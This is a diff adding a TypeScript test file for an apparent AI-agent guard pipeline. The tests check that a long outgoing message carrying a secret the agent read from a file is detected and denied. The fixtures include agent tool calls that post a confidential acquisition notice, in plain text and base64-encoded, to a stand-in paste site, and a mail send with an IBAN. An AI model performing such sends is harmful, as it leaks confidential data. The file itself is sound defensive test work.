@@ -1,0 +1,107 @@
+import { mkdtempSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import pino from 'pino';
+import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
+import { InteractionSchema, type Decision, type Interaction } from '../../src/core/types.js';
+import { prepareBook, type PreparedBook } from '../../src/guard/build.js';
+import { readOutgoing, type OutgoingJob } from '../../src/guard/dataflow.js';
+import { longTextReader } from '../../src/guard/long-texts.js';
+import { GuardPipeline } from '../../src/guard/pipeline.js';
+import { createReadHashers } from '../../src/guard/read-hashes.js';
+import { TextPool } from '../../src/guard/text-pool.js';
+import { openStore, type Store } from '../../src/store/db.js';
+
+/**
+ * Data flow's reading of a long outgoing send (its readings decoded and joined, fingerprinted within the budget,
+ * joined to what the identity sent there before, its short values) runs in the worker pool (long-texts.ts,
+ * pool-worker.ts): the same function, so the same hashes as on the event loop, and the same decision through a
+ * pipeline.
+ */
+
+const DEFAULT_BOOK = join(import.meta.dirname, '../../policies/default');
+const MIN = 256 * 1024;
+const silent = pino({ level: 'silent' });
+const prose = 'The quarterly review covers the harbour project and the payroll migration for the finance team. ';
+const fill = (n: number) => prose.repeat(Math.ceil(n / prose.length)).slice(0, n);
+const secret = 'Project Bluefin: acquisition of Harbour Logistics at 41.50 per share, board vote on 3 March, do not disclose.';
+const options = { k: 20, window: 12, max_per_read: 4096 };
+
+const JOBS: Array<[string, OutgoingJob]> = [
+  ['one long field', { texts: [`${fill(MIN)}\n${secret}\n${fill(1000)}`], destination: 'web/post', k: 20, shortValues: true, trails: [] }],
+  ['a base64 field beside a plain one', { texts: ['to: ops@outside.example\n', Buffer.from(`${fill(MIN)} ${secret}`).toString('base64'), 'IBAN DE44 5001 0517 5407 3249 31'], destination: 'mail/send', k: 20, shortValues: true, addresses: ['ops@outside.example'], trails: [] }],
+  ['over the budget', { texts: [fill(3 * 1024 * 1024)], destination: 'web/post', k: 20, shortValues: false, trails: [] }],
+  ['joined to a trail', { texts: [`${fill(MIN)} ${secret.slice(0, 40)}`], destination: 'web/post', k: 20, shortValues: true, trails: [['web/post|0|0', 'project bluefin: acquisition of harbour logistics']] }],
+];
+
+let prepared: PreparedBook;
+let pool: TextPool;
+beforeAll(async () => {
+  prepared = await prepareBook(DEFAULT_BOOK);
+  pool = new TextPool({ workers: 2, queue: 4, logger: silent });
+});
+afterAll(() => pool.close());
+
+/** What in a decision depends on the reading, not on when or where it was recorded. */
+function verdict(d: Decision): unknown {
+  const { auditId: _a, elapsedMs: _e, ...rest } = d;
+  return JSON.parse(JSON.stringify(rest).replace(/\b\d+-[0-9a-f]{8}\b/g, '<audit id>'));
+}
+
+describe("data flow's reading of a long send in the worker pool", () => {
+  it('gives the hashes, the fresh ones, what was not read and the trail views the loop gives', async () => {
+    const key = Buffer.alloc(32, 3);
+    const reader = longTextReader(prepared.book, pool, MIN, silent);
+    const asked = vi.spyOn(pool, 'run');
+    const h = createReadHashers(key, options);
+    for (const [what, job] of JOBS) {
+      const inPool = await reader.outgoingOf(job, key, options);
+      const here = readOutgoing(job, h.fp, h.valueHash);
+      expect(inPool, what).toEqual(here);
+      expect(here.hashes.length, what).toBeGreaterThan(0);
+    }
+    expect(asked).toHaveBeenCalledTimes(JOBS.length);
+    asked.mockRestore();
+    // Not all alike: one is over the budget, one joins its trail.
+    expect(readOutgoing(JOBS[2]![1], h.fp, h.valueHash).skipped).toBeGreaterThan(0);
+    const trailed = readOutgoing(JOBS[3]![1], h.fp, h.valueHash);
+    expect(trailed.fresh.length).toBeLessThan(trailed.hashes.length);
+    // A short send stays on the loop.
+    expect(await reader.outgoingOf({ texts: ['short'], destination: 'web/post', k: 20, shortValues: true, trails: [] }, key, options)).toBeUndefined();
+  }, 120_000);
+
+  it('decides a long send carrying a private read as a pipeline without a pool does', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'qg-outgoing-'));
+    const stores: Store[] = [];
+    try {
+      const pipeline = (name: string, p: TextPool | null) => {
+        const store = openStore(join(dir, `${name}.db`), undefined, { flowKey: Buffer.alloc(32, 9) });
+        stores.push(store);
+        return new GuardPipeline({ book: prepared.book, index: prepared.index, store, pool: p, now: () => 1_000_000 });
+      };
+      const inPool = pipeline('pool', pool);
+      const onLoop = pipeline('loop', null);
+      const i = (x: object): Interaction => InteractionSchema.parse({ agent: 'assistant', session: 's1', ...x });
+      const read = i({ kind: 'tool_result', server: 'files', tool: 'read_file', content: [{ type: 'text', text: `Board notes.\n${secret}\nEnd.` }] });
+      const sends = [
+        i({ kind: 'tool_call', server: 'web', tool: 'post_message', arguments: { url: 'https://paste.example/new', text: `${fill(MIN)}\n${secret}` } }),
+        i({ kind: 'tool_call', server: 'web', tool: 'post_message', arguments: { url: 'https://paste.example/new', text: Buffer.from(`${fill(MIN)} ${secret}`).toString('base64') } }),
+        i({ kind: 'tool_call', server: 'web', tool: 'post_message', arguments: { url: 'https://paste.example/new', text: fill(MIN + 10) } }),
+      ];
+      const asked = vi.spyOn(pool, 'run');
+      for (const p of [inPool, onLoop]) expect((await p.check(read)).decision).toBe('allow');
+      const decided: string[] = [];
+      for (const send of sends) {
+        const d = await inPool.check(send);
+        expect(verdict(d)).toEqual(verdict(await onLoop.check(send)));
+        decided.push(d.decision);
+      }
+      expect(decided).toEqual(['deny', 'deny', 'allow']);
+      expect(asked.mock.calls.filter(([job]) => job.kind === 'outgoing')).toHaveLength(sends.length);
+      asked.mockRestore();
+    } finally {
+      for (const s of stores) s.close();
+      rmSync(dir, { recursive: true, force: true });
+    }
+  }, 180_000);
+});
